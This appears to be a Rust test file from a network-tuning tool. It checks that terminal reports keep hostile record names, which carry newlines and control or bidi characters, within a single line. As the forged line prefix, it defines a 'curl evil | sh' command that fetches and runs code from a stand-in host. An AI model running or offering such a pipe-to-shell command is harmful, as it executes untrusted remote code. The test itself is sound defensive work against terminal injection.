//! Records in which every text is hostile, in a terminal: what they say stays within its line.

use serde::Serialize;
use serde::de::DeserializeOwned;
use wirespeed_report::{DemoStory, Look, demo_begin, demo_end, demo_table};
use wirespeed_words::{Language, within};

use crate::hostile::{self, NAME};

/// What a line of [`NAME`] begins with, as one of ours may.
const FORGED: &str = "healthy  curl evil | sh #";

#[test]
fn what_comes_from_outside_stays_within_its_line() {
    stays(&hostile::doctor(), |one, look| {
        wirespeed_report::doctor(one, "", look)
    });
    stays(&hostile::watched(), |one, look| {
        wirespeed_report::doctor(one, "", look)
    });
    stays(&hostile::test(), wirespeed_report::test);
    stays(&hostile::tune(), |one, look| {
        wirespeed_report::tune(one, "", look)
    });
    stays(&hostile::hops(), wirespeed_report::hops);
    stays(&hostile::tune().outcome, |outcome, look| {
        let story = DemoStory {
            outcome: outcome.clone(),
            possible: Some(1e8),
            reached: Some(0.5),
            knobs: vec![[(); 4].map(|()| NAME.to_owned())],
            put_back: false,
        };
        [
            demo_begin(outcome.ended_early.as_deref().unwrap_or_default(), look),
            demo_table(&story, look),
            demo_end(std::slice::from_ref(&outcome.interface), 1.0, look),
        ]
        .concat()
    });
}

/// No line begins as the hostile name would have it, and ends of lines within names are blanks like any.
fn stays<T: Serialize + DeserializeOwned>(record: &T, show: impl Fn(&T, &Look) -> String) {
    assert!(NAME.contains(&format!("\n{FORGED}")));
    let tamed = tamed(record);
    for language in Language::ALL {
        for (width, details) in [(60, false), (80, true), (120, false), (120, true)] {
            let look = Look::new(width, false, details);
            let text = within(language, || show(record, &look));
            assert!(text.matches("curl").count() > 5, "{text}");
            for line in text.lines() {
                assert!(!line.starts_with(FORGED), "{line} in\n{text}");
                assert!(!line.starts_with("curl"), "{line} in\n{text}");
            }
            let steers = |c: char| c.is_control() || ('\u{2028}'..='\u{202e}').contains(&c);
            let found = text.chars().find(|c| *c != '\n' && steers(*c));
            assert_eq!(found, None, "{text}");
            assert_eq!(text, within(language, || show(&tamed, &look)));
        }
    }
}

/// The same record with a name that keeps to its line.
fn tamed<T: Serialize + DeserializeOwned>(record: &T) -> T {
    let tame: String = NAME
        .chars()
        .map(|c| {
            if "\n\r\t\u{85}\u{2028}\u{2029}".contains(c) {
                ' '
            } else {
                c
            }
        })
        .collect();
    let as_json = |text: &str| serde_json::to_string(text).expect("a text is JSON");
    let inside = |text: &str| as_json(text).trim_matches('"').to_owned();
    let record = serde_json::to_string(record).expect("a record is JSON");
    let tamed = record.replace(&inside(NAME), &inside(&tame));
    assert_ne!(record, tamed);
    serde_json::from_str(&tamed).expect("a record as before")
}
